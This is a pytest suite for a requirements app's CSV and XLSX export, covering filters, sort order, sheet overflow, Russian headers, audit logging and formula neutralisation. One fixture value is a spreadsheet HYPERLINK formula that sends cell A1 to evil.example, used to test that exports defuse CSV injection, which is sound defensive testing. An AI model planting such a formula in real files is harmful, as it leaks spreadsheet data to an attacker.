"""Analysts take the requirements list out, exactly as they filtered it, as CSV or XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
import sqlalchemy as sa

from review_app.audit import AuditEntry
from review_app.auth.models import GlobalRole
from review_app.extensions import db
from tests.conftest import login_as, page_text, propose

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'


@pytest.fixture
def setup(world):
    fire, transport = world.area("07", "Пожарная безопасность"), world.area("12", "Транспорт")
    rita = world.user("rita", reviewer_in=(fire,))
    reqs = [world.requirement(fire, title="Огнетушители на каждом этаже"),
            world.requirement(fire, title=EVIL, text="+7 701 000 00 00 — телефон"),
            world.requirement(fire, title="Планы эвакуации", annual_cost_kzt=None),
            world.requirement(transport, title="Тахографы")]
    return rita, reqs


def csv_rows(response) -> list[list[str]]:
    """The header and the requirements; the last line must say the export is complete."""
    text = response.get_data().decode("utf-8-sig")
    *rows, last = list(csv.reader(io.StringIO(text), delimiter=";"))
    count = len(rows) - 1
    assert last in ([f"# End of export: {count} requirement{'' if count == 1 else 's'}."],
                    [f"# Конец выгрузки: {count} требования."])  # 2-4 in Russian
    return rows


def test_csv_export_is_the_filtered_list_of_my_areas(client, setup):
    rita, reqs = setup
    login_as(client, rita)
    propose(client, reqs[0], "cancel")
    response = client.get("/requirements/export.csv?q=огнетушители&sort=-code&after=junk")
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    # Named by the time on the screens (Asia/Almaty), not UTC.
    from datetime import UTC, datetime
    from zoneinfo import ZoneInfo

    local = datetime.now(UTC).astimezone(ZoneInfo("Asia/Almaty")).strftime("%Y%m%d-%H")
    assert f"requirements-{local}" in response.headers["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0][:4] == ["code", "area_code", "title", "text"]
    assert [r[0] for r in rows[1:]] == [reqs[0].code]
    assert rows[1][13:15] == ["proposed", "cancel"]  # after the SCM inputs column

    everything = csv_rows(client.get("/requirements/export.csv?sort=-code"))
    assert [r[0] for r in everything[1:]] == sorted((r.code for r in reqs[:3]), reverse=True)
    assert "Тахографы" not in str(everything)  # another area, never exported to her


def test_an_export_sorted_by_cost_is_in_the_lists_order(client, world, setup):
    """Sorted by cost, the export reads the same indexed order the list does: the computed
    cost before the imported estimate, no cost last."""
    from review_app.scm.models import ScmCost

    rita, reqs = setup  # imported estimates: 1,500,000 (the world's default), 1,500,000, none
    db.session.add(ScmCost(requirement_id=reqs[1].id, central=9_000_000, low=8_000_000,
                           high=9_500_000))
    db.session.commit()
    login_as(client, rita)
    rows = csv_rows(client.get("/requirements/export.csv?sort=-cost"))
    assert [r[0] for r in rows[1:]] == [reqs[1].code, reqs[0].code, reqs[2].code]
    rows = csv_rows(client.get("/requirements/export.csv?sort=cost"))
    assert [r[0] for r in rows[1:]] == [reqs[2].code, reqs[0].code, reqs[1].code]


def test_formulas_are_neutralised_in_csv(client, setup):
    rita, reqs = setup
    login_as(client, rita)
    rows = csv_rows(client.get("/requirements/export.csv?q=телефон"))
    assert rows[1][2] == "'" + EVIL
    assert rows[1][3].startswith("'+7 701")


def test_xlsx_export_holds_text_cells_never_formulas(client, setup):
    rita, reqs = setup
    login_as(client, rita)
    response = client.get("/requirements/export.xlsx?area=07")
    assert response.status_code == 200
    data = response.get_data()
    response.close()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere

    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data), read_only=True)
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    workbook.close()
    assert rows[0][:4] == ("code", "area_code", "title", "text")
    assert len(rows) == 4
    titles = {r[2] for r in rows[1:]}
    assert EVIL in titles  # shown exactly as written, as text
    costs = [r[9] for r in rows[1:]]
    assert 1_500_000 in costs and None in costs


def test_an_xlsx_export_longer_than_a_sheet_goes_on_in_the_next_one(client, setup,
                                                                    monkeypatch):
    """Excel's sheet ends at row 1,048,576 and xlsxwriter drops the rest without a word: the
    export goes on in "Requirements (2)" with its headings, no row lost."""
    from openpyxl import load_workbook

    from review_app.requirements import export

    monkeypatch.setattr(export, "XLSX_SHEET_ROWS", 3)  # headings and two rows a sheet
    rita, reqs = setup
    login_as(client, rita)
    response = client.get("/requirements/export.xlsx?area=07")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    response.close()
    assert workbook.sheetnames == ["Requirements", "Requirements (2)"]
    sheets = [list(ws.iter_rows(values_only=True)) for ws in workbook.worksheets]
    workbook.close()
    assert [len(rows) for rows in sheets] == [3, 2]
    assert all(rows[0][:2] == ("code", "area_code") for rows in sheets)
    assert sorted(r[0] for rows in sheets for r in rows[1:]) == sorted(r.code for r in reqs[:3])


def test_headers_are_russian_for_russian_speakers(client, world, setup):
    rita, _ = setup
    rita.language = "ru"
    db.session.commit()
    login_as(client, rita)
    rows = csv_rows(client.get("/requirements/export.csv"))
    assert rows[0][:4] == ["Код требования", "Код сферы", "Наименование", "Текст требования"]
    assert "предложено" in str(rows) or rows[0][13] == "Состояние" or len(rows) == 4


def test_an_export_can_be_corrected_and_imported_again_unchanged(client, world, setup):
    _, reqs = setup
    # A title that is a formula cannot come in through an import; leave it out here.
    db.session.delete(reqs[1])
    world.requirement(reqs[0].area, title="- дефис в начале", text="+7 701 000 00 00",
                      article="@ссылка")
    admin = world.user("admin", role=GlobalRole.ADMIN)
    login_as(client, admin)
    exported = client.get("/requirements/export.csv").get_data()
    assert b"'+7 701" in exported and b"'- " in exported
    from tests.test_imports import preview

    _, page = preview(client, exported, "export.csv")
    assert "4 unchanged" in page and "0 changed" in page
    assert "The review columns of an export are left aside: Area name; State; Decision" in page
    assert "not recognised" not in page


def test_bad_filters_are_named_not_exported(client, setup):
    rita, _ = setup
    login_as(client, rita)
    response = client.get("/requirements/export.csv?area=12&state=lost")
    assert response.status_code == 400
    text = page_text(response)
    assert "Unknown area “12”" in text and "Unknown state “lost”" in text


def test_anonymous_export_goes_to_sign_in(client, setup):
    response = client.get("/requirements/export.csv")
    assert response.status_code == 302 and "/login" in response.location
    assert client.get("/requirements/export.pdf").status_code == 404


def test_exports_are_in_the_audit_log(client, setup):
    rita, _ = setup
    login_as(client, rita)
    client.get("/requirements/export.xlsx?area=07&state=unreviewed").close()
    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "export"))
    assert entry.actor_id == rita.id
    assert entry.details == {"format": "xlsx", "filters": {"area": "07", "state": "unreviewed"}}


def test_the_list_page_links_to_the_same_filtered_export(client, setup):
    rita, _ = setup
    login_as(client, rita)
    html = client.get("/requirements/?area=07&q=план").get_data(as_text=True)
    assert "/requirements/export.csv?area=07&amp;q=" in html
    assert "/requirements/export.xlsx?area=07&amp;q=" in html
